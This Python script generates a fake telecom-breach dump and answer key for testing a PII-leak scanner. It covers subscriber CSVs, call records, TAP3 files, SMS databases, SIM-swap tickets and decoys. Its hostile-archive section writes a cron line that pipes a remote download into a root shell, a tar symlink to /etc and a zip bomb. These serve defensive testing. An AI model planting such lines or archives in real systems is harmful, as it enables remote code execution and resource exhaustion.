#!/usr/bin/env python3
"""Eighteenth hostile dump with an answer key (tests/e2e/test_hostile17.py).

make_hostile17.py OUT -> OUT/dump/... and OUT/key.json

Same key format as make_hostile3.py (its docstring lists the expect
fields) and make_hostile8.py's checker (entities_only, exact); the shared
helpers are tests/gen/hostile_common.py. This one lays out what leaks when
a TELECOM / MOBILE OPERATOR is breached (T-Mobile 2021: subscriber
records with SSN, DOB, driver's licence, IMSI/IMEI; AT&T via Snowflake
2024: call and text detail records; Optus 2022: a customer API's JSON with
passport and licence numbers; Singtel 2021: a file-transfer appliance's
exports), each file written by hand from the format's documented layout
with the standard library, with fake PII:

- subscriber exports: CSV and TSV with MSISDN, IMSI, IMEI, ICCID, SSN,
  DOB, driver's licence and account PIN columns; a gzip'd one cut short;
- call detail records: a Snowflake unload (gzip'd CSV and gzip'd JSON
  Lines, the MSISDN without its '+'), a mediation export labelled
  A_NUMBER/B_NUMBER, a decoded 3GPP CDR (callingNumber, calledNumber), a
  switch's fixed-width CDR file, GSMA TAP3 roaming files (ASN.1 BER,
  TD.57: MSISDN, IMSI and IMEI as BCDString; one cut, a notification);
- an Optus-style customer API dump (JSON: passport, driver licence);
- SMS stores: Android's mmssms.db and iOS's sms.db (SQLite);
- HLR/HSS provisioning: a Huawei-style MML command log (ISDN=, IMSI=) and
  an LDIF export of the HSS directory;
- port-out / SIM-swap tickets: a Zendesk ticket JSON and a Jira issue
  export; call-centre CRM notes as HTML mail; a billing statement PDF;
- hostile touches: an encrypted 7z of an export, a zip bomb beside a real
  export, a tar whose symlink points at /etc;
- decoys that must stay clean: a device inventory (Luhn-valid IMEIs,
  IMEISVs that pass Luhn with a JCB prefix, ICCIDs), an IMSI range table,
  a cell-site list. An IMEI, IMEISV or ICCID is not a card; an IMSI is not
  a phone.

"gap": true marks what a careful tool finds and leaksift does not (the
report that came with this file says why); a gap that starts to hold fails
until its mark is dropped. "arguable": true marks an expectation a careful
responder could argue either way.

Python stdlib only (and 7z for the encrypted archive, skipped without it);
deterministic. `make_hostile17.py --corpus fuzz/corpus` writes the tap3
fuzz seeds.
"""
import gzip
import io
import json
import os
import sys
import tarfile
import zipfile
from email.message import EmailMessage

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_common as hc  # noqa: E402
from make_hostile16 import pdf  # noqa: E402  (a one-page PDF of text lines)

FP_KEY = b"hostile17 fingerprint key, test only"
D = hc.Dump(FP_KEY, domain="wireless-mail.test", ssn_base=700)
key, put, person, pl = D.key, D.put, D.person, D.pl
check = hc.check
OPS = "magenta-wireless"
BSS = OPS + "/bss"
NET = OPS + "/core-network"
CARE = OPS + "/customer-care"
STATES = ("CA", "TX", "NY", "FL", "WA")
# the ordinary fields of a subscriber export (the PII the breach notices named)
ORDINARY = ["ssn", "dob", "email", "phone", "drivers_license", "password"]


def luhn_digit(s):
    for d in "0123456789":
        if hc.luhn_ok(s + d):
            return d


def subscriber():
    """A person with an operator's identifiers: msisdn (E.164 without +),
    imsi (MCC 310 MNC 260), imei (TAC + serial + Luhn digit), imeisv (16
    digits, no check digit), iccid (19 digits, 89 01 260 ..., Luhn),
    dl (a state driver's licence), pin (the account PIN)."""
    p = person()
    n = p["n"]
    p["msisdn"] = "1" + p["phone10"]
    p["imsi"] = "310260%09d" % (400000000 + 7919 * n)
    body = "35%06d%06d" % (391805 + n, 104729 * n % 1000000)
    p["imei"] = body + luhn_digit(body)
    p["imeisv"] = body + "%02d" % (10 + n % 80)
    icc = "8901260%011d" % (88000000000 + 15485863 * n % 1000000000)
    p["iccid"] = icc + luhn_digit(icc)
    p["dl"] = "%s%07d" % ("DFHKMRSW"[n % 8], 4100000 + 7717 * n % 900000)
    p["dl_state"] = STATES[n % len(STATES)]
    p["pin"] = "%06d" % (271828 + 7919 * n * n % 700000)
    p["mdy"] = "%s/%s/%s" % (p["dob"][5:7], p["dob"][8:], p["dob"][:4])
    return p


def ents(*people, ssn=True, dob=True, email=True, phone=True):
    out = {}
    for name, on, f in (("ssn", ssn, "ssn9"), ("dob", dob, "dob"), ("email", email, "email"),
                        ("phone", phone, "phone10")):
        if on:
            out[name] = [p[f] for p in people]
    return out


# ---------------------------------------------------------------- subscriber exports
def subscriber_rows(ppl, sep=",", plus=False, mdy=False):
    hdr = ["ACCOUNT_NO", "FIRST_NAME", "LAST_NAME", "MSISDN", "IMSI", "IMEI", "ICCID", "SSN", "DOB",
           "DL_NUMBER", "DL_STATE", "ACCOUNT_PIN", "EMAIL", "SERVICE_ADDRESS"]
    rows = [sep.join(hdr)]
    for p in ppl:
        rows.append(sep.join([
            "9%08d" % (31000000 + p["n"]), p["first"], p["last"], ("+" if plus else "") + p["msisdn"], p["imsi"],
            p["imei"], p["iccid"], p["ssn"], p["mdy"] if mdy else p["dob"], p["dl"], p["dl_state"], p["pin"],
            p["email"], "%d Oak Ave Bellevue WA 98004" % (100 + p["n"])]))
    return "\r\n".join(rows) + "\r\n"


def subscriber_cases():
    ppl = [subscriber() for _ in range(4)]
    r = put(BSS + "/exports/postpaid_subscribers_20210801.csv", subscriber_rows(ppl).encode())
    key("subs_csv_ssn_dob_email", r, [], exact=ents(*ppl, phone=False), verdict="sensitive", coverage="full")
    # the MSISDN column: E.164 without its '+' (11 digits, country code 1) under a header that names it
    key("subs_csv_msisdn", r, [], exact={"phone": [p["phone10"] for p in ppl]})
    # DL_NUMBER: the licence under its abbreviated column name (DL_STATE beside it; pii_drivers_license_context's
    # $dl_column)
    key("subs_csv_dl", r, [], planted={"drivers_license": [p["dl"] for p in ppl]})
    # ACCOUNT_PIN: the carrier PIN that authorises a port-out or SIM swap (T-Mobile 2021 leaked them);
    # digits only, which a password rule cannot tell from a count
    key("subs_csv_pin", r, [], planted={"password": [p["pin"] for p in ppl]}, arguable=True)
    # IMEI (15 digits, Luhn) and ICCID (19 digits, Luhn) are not cards; the IMSI is not a phone
    key("subs_csv_no_card", r, [], entities_only=ORDINARY)
    # prepaid: tab-separated, the MSISDN with its '+', US dates
    pp = [subscriber() for _ in range(3)]
    r = put(BSS + "/exports/prepaid_subscribers_20210801.tsv", subscriber_rows(pp, "\t", plus=True, mdy=True).encode())
    key("subs_tsv", r, [], exact=dict(ents(*pp, dob=False)), verdict="sensitive", entities_only=ORDINARY)
    # an M/D/YYYY birth date whose day is over 12 (only US order fits), under a DOB header
    key("subs_tsv_dob", r, [], planted={"dob": [p["dob"] for p in pp if int(p["dob"][8:]) > 12]})
    # gzip'd and cut short in the fourth row: what came is read, the object is partial
    cp = [subscriber() for _ in range(6)]
    gz = gzip.compress(subscriber_rows(cp).encode() * 40, mtime=0)
    r = put(BSS + "/exports/failed/subscribers_full_20210802.csv.gz", gz[:len(gz) // 2])
    key("subs_gz_cut_read", r, None, planted_under=ents(*cp[:3], phone=False))
    key("subs_gz_cut_partial", r, None, reasons_under=["truncated"])


# ---------------------------------------------------------------- call detail records
def cdr_cases():
    a, b, c = subscriber(), subscriber(), subscriber()
    rows = ["RECORD_ID,EVENT_TYPE,START_TIME_UTC,DURATION_SEC,CALLING_MSISDN,CALLED_MSISDN,SERVED_IMSI,"
            "SERVED_IMEISV,CELL_ID,LAC"]
    for i, (x, y) in enumerate(((a, b), (b, c), (c, a), (a, c))):
        rows.append("%d,%s,2024-04-%02d %02d:%02d:11,%d,%s,%s,%s,%s,%d,%d" % (
            880000 + i, ("MOC", "MTC", "SMS_MO", "MOC")[i], 10 + i, 8 + i, 13 * i % 60, 37 * i, x["msisdn"], y["msisdn"],
            x["imsi"], x["imeisv"], 20931 + i, 4410))
    r = put(OPS + "/snowflake/unload/CDR_VOICE/data_0_0_0.csv.gz", gzip.compress(("\n".join(rows) + "\n").encode(), mtime=0))
    # AT&T/Snowflake 2024: the numbers themselves were the leak; 11 digits, country code 1, no '+'
    key("cdr_csv_gz_msisdn", r, None, planted_under={"phone": [p["phone10"] for p in (a, b, c)]})
    d, e = subscriber(), subscriber()
    jl = "".join(json.dumps({"RECORD_ID": 990000 + i, "EVENT_TYPE": "SMS_MT", "EVENT_TS": "2024-04-1%dT09:00:00Z" % i,
                             "ORIG_MSISDN": x["msisdn"], "TERM_MSISDN": y["msisdn"], "IMSI": y["imsi"],
                             "IMEI": y["imei"], "ECGI": "310260%07d" % (104729 * (i + 1) % 10000000)}) + "\n"
                 for i, (x, y) in enumerate(((d, e), (e, d))))
    r = put(OPS + "/snowflake/unload/CDR_SMS/data_0_1_0.json.gz", gzip.compress(jl.encode(), mtime=0))
    key("cdr_jsonl_gz_msisdn", r, None, planted_under={"phone": [d["phone10"], e["phone10"]]})
    # a mediation export as switch vendors label the parties: A_NUMBER (calling), B_NUMBER (called), E.164
    # without the '+'; short codes (611, *228) and a voicemail pilot beside them
    h, k = subscriber(), subscriber()
    ab = "CDR_ID,RECORD_TYPE,A_NUMBER,B_NUMBER,SEIZURE_TIME,CONVERSATION_SEC,IMSI,CELL\n" + "".join(
        "%d,%s,%s,%s,20240502%02d1500,%d,%s,%d\n" % (70000 + i, t, x, y, 8 + i, 17 * i, h["imsi"], 31000 + i)
        for i, (t, x, y) in enumerate((("MOC", h["msisdn"], k["msisdn"]), ("MOC", h["msisdn"], "611"),
                                       ("MTC", k["msisdn"], h["msisdn"]), ("MOC", k["msisdn"], "*228"))))
    r = put(NET + "/mediation/export/msc02_ab_20240502.csv", ab.encode())
    key("cdr_a_b_number", r, [], exact={"phone": [h["phone10"], k["phone10"]]}, entities_only=["phone"],
        verdict="sensitive")
    # the 3GPP field names in a decoded CDR dump (calling/called party number)
    m_, q = subscriber(), subscriber()
    dump = ("MOCallRecord {\n  recordType: moCallRecord\n  servedIMSI: %s\n  servedIMEI: %s\n"
            "  callingNumber: %s\n  calledNumber: %s\n  connected_party_number: %s\n  callDuration: 42\n}\n"
            % (m_["imsi"], m_["imei"], m_["msisdn"], q["msisdn"], q["msisdn"]))
    r = put(NET + "/mediation/decoded/MSC02_0001.txt", dump.encode())
    key("cdr_decoded_parties", r, [], exact={"phone": [m_["phone10"], q["phone10"]]}, entities_only=["phone"])
    # a switch's fixed-width CDR: type(2) A-number(15) B-number(15) start(14) dur(6) IMSI(15) IMEI(16) cell(8)
    f, g = subscriber(), subscriber()
    fw = "".join("%-2s%-15s%-15s%-14s%06d%-15s%-16s%08d\n" % (
        t, x["msisdn"], y["msisdn"], "2024050%d0930%02d" % (1 + i, i), 61 * i, x["imsi"], x["imei"], 7001 + i)
        for i, (t, x, y) in enumerate((("01", f, g), ("02", g, f), ("01", f, g))))
    r = put(NET + "/mediation/msc01/MSC01_20240501_0001.cdr", ("HDRMSC01  20240501000000V0201\n" + fw +
                                                             "TRL%08d\n" % 3).encode())
    # no header, no label: the digits are an MSISDN only by their position (the record layout)
    key("cdr_fixed_width", r, [], planted={"phone": [f["phone10"], g["phone10"]]}, arguable=True)
    key("cdr_fixed_width_no_card", r, [], entities_only=["phone"])


# ---------------------------------------------------------------- TAP3 (GSMA TD.57), ASN.1 BER
def ber_tag(cls_constructed, number):
    """An identifier octet (or octets): CLS_CONSTRUCTED the top three bits
    (0x40 application primitive, 0x60 application constructed)."""
    if number < 31:
        return bytes([cls_constructed | number])
    out = [number & 0x7F]
    number >>= 7
    while number:
        out.append(0x80 | (number & 0x7F))
        number >>= 7
    return bytes([cls_constructed | 0x1F] + out[::-1])


def ber(number, content, constructed=False):
    n = len(content)
    if n < 128:
        ln = bytes([n])
    else:
        b = n.to_bytes((n.bit_length() + 7) // 8, "big")
        ln = bytes([0x80 | len(b)]) + b
    return ber_tag(0x60 if constructed else 0x40, number) + ln + content


def bcd(digits):
    """BCDString (TD.57): two digits an octet, the first in the high
    nibble, an odd count ended by the filler F."""
    if len(digits) % 2:
        digits += "F"
    return bytes(int(digits[i], 16) << 4 | int(digits[i + 1], 16) for i in range(0, len(digits), 2))


def tap3(calls, notification=False):
    """A TransferBatch ([APPLICATION 1]): BatchControlInfo [4] (Sender
    [196], Recipient [182], FileSequenceNumber [109]), a
    CallEventDetailList [3] with one MobileOriginatedCall [9] per
    (subscriber, called number): MoBasicCallInformation [147] >
    ChargeableSubscriber [427] > SimChargeableSubscriber [199] > Imsi
    [129], Msisdn [152]; Destination [141] > CalledNumber [407];
    CallEventStartTimeStamp [44] > LocalTimeStamp [16];
    TotalCallEventDuration [223]; then ImeiOrEsn [429] > Imei [128]; and an
    AuditControlInfo [15]. Numbers are BCDString. NOTIFICATION: a
    Notification [2] (Sender first) instead."""
    hdr = ber(196, b"USAMW") + ber(182, b"GBRVF") + ber(109, b"00123")
    if notification:
        return ber(2, hdr + ber(108, ber(16, b"20240501120000"), True), True)
    bci = ber(4, hdr + ber(108, ber(16, b"20240501120000"), True), True)
    evs = b""
    for p, called in calls:
        sub = ber(427, ber(199, ber(129, bcd(p["imsi"])) + ber(152, bcd("1" + p["phone10"])), True), True)
        dest = ber(141, ber(407, bcd(called)), True)
        ts = ber(44, ber(16, b"20240430183000"), True)
        bc = ber(147, sub + dest + ts + ber(223, b"\x00\x8c"), True)
        eq = ber(429, ber(128, bcd(p["imei"])), True)
        evs += ber(9, bc + eq, True)
    return ber(1, bci + ber(3, evs, True) + ber(15, ber(43, bytes([len(calls)])), True), True)


def tap3_cases():
    a, b = subscriber(), subscriber()
    calls = [(a, "447700900%03d" % a["n"]), (b, "4420794600%02d" % b["n"])]
    r = put(NET + "/roaming/tap/out/CDUSAMWGBRVF00123", tap3(calls))
    # the roamers' MSISDNs (country code 1, BCD): a reader must decode the BER (src/extract/tap3.c)
    key("tap3_msisdn", r, [], planted={"phone": [a["phone10"], b["phone10"]]}, verdict="sensitive", coverage="full")
    # IMSI and IMEI (BCD too) are no card and no phone
    key("tap3_no_card", r, [], entities_only=["phone"])
    # a file cut in the second call event: the first is read, the object is partial
    c, d = subscriber(), subscriber()
    whole = tap3([(c, "447700900%03d" % c["n"]), (d, "447700900%03d" % d["n"])])
    r = put(NET + "/roaming/tap/failed/CDUSAMWGBRVF00124.part", whole[:whole.index(bcd(d["imsi"])) + 3])
    key("tap3_cut_read", r, [], planted={"phone": [c["phone10"]]})
    key("tap3_cut_truncated", r, [], coverage="partial", reasons_all=["truncated"])
    # a Notification (a batch with no calls): nothing personal
    r = put(NET + "/roaming/tap/out/CDUSAMWGBRVF00125", tap3([], notification=True))
    key("tap3_notification_clean", r, [], no_findings=True, coverage="full")


# ---------------------------------------------------------------- customer API (Optus 2022)
def api_cases():
    ppl = [subscriber() for _ in range(3)]
    recs = []
    for i, p in enumerate(ppl):
        recs.append({"customerId": "CUS%08d" % (5000000 + p["n"]), "name": {"given": p["first"], "family": p["last"]},
                     "dateOfBirth": p["dob"], "email": p["email"], "mobileNumber": "+1 " + p["phone"],
                     "identityDocuments": [
                         {"type": "PASSPORT", "number": "5%08d" % (31337 * p["n"] % 100000000), "country": "USA"},
                         {"type": "DRIVERS_LICENCE", "number": p["dl"], "state": p["dl_state"]}],
                     "services": [{"msisdn": p["msisdn"], "imsi": p["imsi"], "simSerial": p["iccid"]}],
                     "address": {"line1": "%d Oak Ave" % (100 + p["n"]), "city": "Bellevue", "state": "WA"}})
    r = put(BSS + "/api-gateway/dump/customers_page_0001.json", json.dumps({"data": recs, "page": 1}, indent=1).encode())
    key("api_json", r, [], exact=ents(*ppl, ssn=False), verdict="sensitive")
    # {"type": "PASSPORT", "number": ...}: the kind of document is a sibling value, not the key
    key("api_json_passport", r, [], planted={"passport": ["5%08d" % (31337 * p["n"] % 100000000) for p in ppl]})
    key("api_json_dl", r, [], planted={"drivers_license": [p["dl"] for p in ppl]})
    key("api_json_no_card", r, [], entities_only=ORDINARY + ["passport"])


# ---------------------------------------------------------------- SMS stores
def sms_cases():
    a, b, c = subscriber(), subscriber(), subscriber()
    db = hc.sqlite_db(D.tmp("mmssms.db"), [
        ("CREATE TABLE sms (_id INTEGER PRIMARY KEY, thread_id INTEGER, address TEXT, date INTEGER, type INTEGER, "
         "read INTEGER, body TEXT)",
         [(1, 1, "+" + a["msisdn"], 1714550000000, 1, 1, "T-Mobile: your verification code is 482913"),
          (2, 1, "+" + a["msisdn"], 1714550060000, 2, 1, "ok send me your social, need it for the lease: mine is %s"
           % c["ssn"]),
          (3, 2, "+" + b["msisdn"], 1714551000000, 1, 1, "my email is %s" % b["email"])])])
    r = put(CARE + "/forensics/android/com.android.providers.telephony/databases/mmssms.db", db)
    key("mmssms_db", r, None, planted_under={"phone": [a["phone10"], b["phone10"]], "ssn": [c["ssn9"]],
                                             "email": [b["email"]]})
    d, e = subscriber(), subscriber()
    db = hc.sqlite_db(D.tmp("sms.db"), [
        ("CREATE TABLE handle (ROWID INTEGER PRIMARY KEY, id TEXT, country TEXT, service TEXT)",
         [(1, "+" + d["msisdn"], "us", "SMS"), (2, e["email"], "us", "iMessage")]),
        ("CREATE TABLE message (ROWID INTEGER PRIMARY KEY, guid TEXT, text TEXT, handle_id INTEGER, date INTEGER)",
         [(1, "A1B2C3D4-0001", "Port-out PIN is %s, do not share" % d["pin"], 1, 736000000000000000),
          (2, "A1B2C3D4-0002", "born %s, licence %s" % (e["dob"], e["dl"]), 2, 736000100000000000)])])
    r = put(CARE + "/forensics/ios/HomeDomain/Library/SMS/sms.db", db)
    key("ios_sms_db", r, None, planted_under={"phone": [d["phone10"]], "email": [e["email"]], "dob": [e["dob"]]})


# ---------------------------------------------------------------- HLR / HSS provisioning
def hlr_cases():
    ppl = [subscriber() for _ in range(3)]
    mml = ("+++    HLR9820/*HLRSN=1*/        2021-08-01 03:14:07\nO&M    #4711\n%%/*1203*/LST SUB:;%%\nRETCODE = 0\n\n" +
           "".join("ADD KI: HLRSN=1, IMSI=\"%s\", OPERTYPE=ADD, KIVALUE=\"%s\", K4SNO=1, ALG=MILENAGE;\n"
                   "ADD TPLSUB: HLRSN=1, IMSI=\"%s\", ISDN=\"%s\", TPLID=10;\n"
                   "MOD IMEI: ISDN=\"%s\", IMEI=\"%s\";\n"
                   % (p["imsi"], hc.rand_str(__import__("random").Random(p["n"]), 32, "0123456789ABCDEF"), p["imsi"],
                      p["msisdn"], p["msisdn"], p["imei"]) for p in ppl) + "---    END\n")
    r = put(NET + "/hlr/provisioning/HLR01_batch_20210801.mml", mml.encode())
    # ISDN="<MSISDN>": Huawei's MML names the subscriber's number ISDN (its E.164, no '+'; pii_phone_e164's $isdn)
    key("hlr_mml_isdn", r, [], planted={"phone": [p["phone10"] for p in ppl]})
    key("hlr_mml_no_card", r, [], entities_only=["phone", "token", "password"])
    # a batch script whose first bytes ("add") are a BER header to a TAP3 probe (61 64 64: [APPLICATION 1],
    # length 100, [APPLICATION 4]): read as the text it is
    ap = subscriber()
    r = put(NET + "/hlr/provisioning/add_subscribers_0802.txt",
            ("add subscribers batch 0802 (requested by %s)\nADD TPLSUB: HLRSN=1, IMSI=\"%s\", ISDN=\"%s\", TPLID=10;\n"
             % (ap["email"], ap["imsi"], ap["msisdn"])).encode())
    key("hlr_add_text_not_ber", r, [], exact={"email": [ap["email"]], "phone": [ap["phone10"]]}, coverage="full")
    lp = [subscriber() for _ in range(2)]
    ldif = "version: 1\n\n" + "".join(
        "dn: msisdn=%s,ou=subscribers,dc=hss,dc=magenta-wireless,dc=test\nobjectClass: top\nobjectClass: hssSubscriber\n"
        "msisdn: %s\nimsi: %s\nimeisv: %s\ncn: %s\nmail: %s\nsubscriberStatus: ACTIVE\n\n"
        % (p["msisdn"], p["msisdn"], p["imsi"], p["imeisv"], p["name"], p["email"]) for p in lp)
    r = put(NET + "/hss/export/hss_subscribers.ldif", ldif.encode())
    key("hss_ldif", r, [], exact={"phone": [p["phone10"] for p in lp], "email": [p["email"] for p in lp]},
        verdict="sensitive", entities_only=["phone", "email"])


# ---------------------------------------------------------------- tickets, CRM, billing
def care_cases():
    a, b = subscriber(), subscriber()
    t = {"ticket": {"id": 771203, "subject": "Port-out request %s" % a["phone"], "status": "solved",
                    "requester": {"name": a["name"], "email": a["email"]},
                    "description": ("Caller requested port-out to another carrier. Verified with DOB %s and last 4 "
                                    "of SSN. Account PIN %s reset at caller's request. New SIM ICCID %s activated, "
                                    "old SIM %s deactivated. Callback number %s."
                                    % (a["mdy"] if int(a["dob"][8:]) > 12 else a["dob"], a["pin"], b["iccid"],
                                       a["iccid"], a["phone"])),
                    "custom_fields": [{"id": 360001, "value": a["imei"]}, {"id": 360002, "value": a["msisdn"]}]},
         "comments": [{"author_id": 9001, "body": "SIM swap done. IMEI %s unchanged." % a["imei"]}]}
    r = put(CARE + "/zendesk/export/tickets/771203.json", json.dumps(t, indent=2).encode())
    key("zendesk_simswap", r, [], exact={"email": [a["email"]], "phone": [a["phone10"]], "dob": [a["dob"]]},
        verdict="sensitive", entities_only=ORDINARY)
    c = subscriber()
    jira = {"issues": [{"key": "FRAUD-4411", "fields": {
        "summary": "Unauthorised SIM swap on %s" % c["msisdn"],
        "description": "h3. Victim\n* Name: %s\n* SSN: %s\n* DOB: %s\n* MSISDN: %s\n* IMSI before: %s\n"
                       "* ICCID after swap: %s\n* Driver's licence (%s): %s\n"
                       % (c["name"], c["ssn"], c["dob"], c["msisdn"], c["imsi"], c["iccid"], c["dl_state"], c["dl"]),
        "reporter": {"emailAddress": "fraud.ops@magenta-wireless.test"}}}]}
    r = put(CARE + "/jira/FRAUD-export-20210805.json", json.dumps(jira, indent=1).encode())
    key("jira_fraud", r, [], exact={"ssn": [c["ssn9"]], "dob": [c["dob"]], "phone": [c["phone10"]]},
        verdict="sensitive", entities_only=ORDINARY)
    key("jira_fraud_dl", r, [], planted={"drivers_license": [c["dl"]]})
    d = subscriber()
    m = EmailMessage()
    m["From"] = "crm-noreply@magenta-wireless.test"
    m["To"] = "tier2-care@magenta-wireless.test"
    m["Subject"] = "Case 5532190 escalated: account verification"
    m["Date"] = "Sun, 01 Aug 2021 14:10:00 +0000"
    m["Message-ID"] = "<case-5532190@crm.magenta-wireless.test>"
    m.set_content("This case needs an HTML viewer.")
    m.add_alternative(
        "<html><body><h3>Case 5532190</h3><table border=1>"
        "<tr><th>Customer</th><td>%s</td></tr><tr><th>Wireless number</th><td>%s</td></tr>"
        "<tr><th>SSN</th><td>%s</td></tr><tr><th>Date of birth</th><td>%s</td></tr>"
        "<tr><th>IMEI</th><td>%s</td></tr><tr><th>Notes</th><td>Customer verified; e-mail on file %s</td></tr>"
        "</table></body></html>" % (d["name"], d["phone"], d["ssn"], d["dob"], d["imei"], d["email"]), subtype="html")
    m.set_boundary("=_case5532190")  # deterministic (the email package draws it at random)
    r = put(CARE + "/mail/tier2/case_5532190.eml", bytes(m))
    key("crm_html_mail", r, None, planted_under=ents(d))
    e = subscriber()
    r = put(BSS + "/billing/statements/2021-07/stmt_9%08d.pdf" % (31000000 + e["n"]),
            pdf(["MAGENTA WIRELESS - MONTHLY STATEMENT", "Account 9%08d   Bill period Jul 01 - Jul 31, 2021"
                 % (31000000 + e["n"]), "%s, %d Oak Ave, Bellevue WA 98004" % (e["name"], 100 + e["n"]),
                 "Wireless number: %s" % e["phone"], "Device: Galaxy S21  IMEI %s" % e["imei"],
                 "SIM: %s" % e["iccid"], "AutoPay: Visa ending %s" % e["card"][-4:], "Amount due: $92.41"]))
    key("billing_pdf", r, [], exact={"phone": [e["phone10"]]}, entities_only=["phone"], verdict="sensitive")


# ---------------------------------------------------------------- hostile touches
def hostile_cases():
    ep = [subscriber() for _ in range(2)]
    if hc.have("7z"):
        r = put(BSS + "/exports/archive/subscribers_2021-07.7z",
                D.sevenz([("subscribers_2021-07.csv", subscriber_rows(ep).encode())], ["-t7z", "-pMagenta2021!", "-mhe=off"]))
        key("enc7z_member", r, ["subscribers_2021-07.csv"], coverage="none", reasons_all=["encrypted"])
        key("enc7z_alert", r, None, alerts_under=["encrypted"])
    bp = subscriber()
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf:
        zi = zipfile.ZipInfo("usage/usage_2021_full.csv", (2021, 8, 1, 3, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(zi, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(256):
                f.write(chunk)
        zi2 = zipfile.ZipInfo("usage/subscriber_lookup.csv", (2021, 8, 1, 3, 0, 0))
        zf.writestr(zi2, subscriber_rows([bp]).encode())
    r = put(OPS + "/sftp/outgoing/usage_export_2021.zip", z.getvalue())
    key("zip_bomb_alert", r, None, alerts_under=["zip_bomb"])
    key("zip_bomb_root_hostile", r, [], verdict="hostile")
    key("zip_bomb_after_member", r, ["usage/subscriber_lookup.csv"], exact=ents(bp, phone=False))
    sp = subscriber()
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
        def add(ti, data=None):
            ti.mtime = hc.FILE_TIME
            ti.uname = ti.gname = "prov"
            if data is not None:
                ti.size = len(data)
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
        ln = tarfile.TarInfo("hlr-tools/conf")
        ln.type = tarfile.SYMTYPE
        ln.linkname = "/etc"
        add(ln)
        add(tarfile.TarInfo("hlr-tools/conf/cron.d/hlr-sync"), b"*/5 * * * * root curl -s http://198.51.100.7/h | sh\n")
        add(tarfile.TarInfo("hlr-tools/pending.mml"),
            ("ADD TPLSUB: HLRSN=1, IMSI=\"%s\", ISDN=\"%s\", TPLID=10;\n# customer SSN %s e-mail %s\n"
             % (sp["imsi"], sp["msisdn"], sp["ssn"], sp["email"])).encode())
    r = put(NET + "/hlr/tools/hlr-tools.tar", b.getvalue())
    key("tar_symlink_alert", r, None, alerts_under=["symlink"])
    key("tar_symlink_member", r, ["hlr-tools/pending.mml"], exact=ents(sp, dob=False, phone=False))


# ---------------------------------------------------------------- decoys
def decoy_cases():
    devs = [subscriber() for _ in range(6)]
    for p in devs:
        # IMEISV has no check digit; one in ten pass Luhn anyway: take those (35..., 16 digits: JCB's shape)
        k = 0
        while not hc.luhn_ok(p["imeisv"]):
            k += 1
            p["imeisv"] = p["imei"][:14] + "%02d" % ((10 + p["n"] % 80 + k) % 100)
    rows = ["TAC,MODEL,IMEI,IMEISV,ICCID,WAREHOUSE,STATUS"]
    for i, p in enumerate(devs):
        rows.append("%s,SM-G991U,%s,%s,%s,WH-%02d,IN_STOCK" % (p["imei"][:8], p["imei"], p["imeisv"], p["iccid"], i))
    r = put(OPS + "/logistics/device_inventory_20210801.csv", ("\n".join(rows) + "\n").encode())
    key("decoy_device_inventory", r, [], no_findings=True, coverage="full")
    imsis = "MCC,MNC,IMSI_FROM,IMSI_TO,HLR,REGION\n" + "".join(
        "310,260,310260%09d,310260%09d,HLR%02d,%s\n" % (i * 10000000, i * 10000000 + 9999999, 1 + i % 4, r_)
        for i, r_ in enumerate(("WEST", "EAST", "SOUTH", "NORTH", "CENTRAL")))
    r = put(NET + "/hlr/config/imsi_ranges.csv", imsis.encode())
    key("decoy_imsi_ranges", r, [], no_findings=True)
    cells = "ENODEB_ID,CELL_ID,ECGI,LAT,LON,AZIMUTH,PCI,EARFCN\n" + "".join(
        "%d,%d,310260%07d,%.6f,%.6f,%d,%d,%d\n" % (20931 + i, 3 * i + 1, (20931 + i) * 256 + 3 * i + 1,
                                                   47.61 + i * 0.013, -122.2 - i * 0.017, 120 * (i % 3), 100 + i, 5230)
        for i in range(8))
    r = put(NET + "/ran/cell_sites_wa.csv", cells.encode())
    key("decoy_cell_sites", r, [], no_findings=True)
    # a technician's note: IMEIs, an ICCID and a Luhn-passing IMEISV in prose (no ':' after the word: the
    # card rule took the IMEISV for a JCB card; pii_card_in_id_field's $imei_bare), no person
    p = devs[0]
    note = ("Swapped handset on bench 4. Old IMEI %s, new IMEI %s. SIM %s moved over; "
            "IMEISV %s. Device passed RF test.\n" % (p["imei"], devs[1]["imei"], p["iccid"], p["imeisv"]))
    r = put(OPS + "/logistics/bench_notes.txt", note.encode())
    key("decoy_bench_notes", r, [], no_findings=True)


def generate(out):
    """Build OUT/dump and OUT/key.json; return the key."""
    return D.generate(out, (subscriber_cases, cdr_cases, tap3_cases, api_cases, sms_cases, hlr_cases, care_cases,
                            hostile_cases, decoy_cases))


CORPUS = {  # fuzz seeds: dump path -> (harness, seed name)
    NET + "/roaming/tap/out/CDUSAMWGBRVF00123": ("tap3", "h17_tap3_batch.ber"),
    NET + "/roaming/tap/failed/CDUSAMWGBRVF00124.part": ("tap3", "h17_tap3_cut.ber"),
    NET + "/roaming/tap/out/CDUSAMWGBRVF00125": ("tap3", "h17_tap3_notification.ber"),
}


def corpus(outdir):
    """Copy the fuzz seeds (fuzz/corpus/<harness>/h17_*) into OUTDIR."""
    hc.corpus_copy(generate, hc.by_harness(CORPUS), outdir)


if __name__ == "__main__":
    hc.main(generate, corpus)
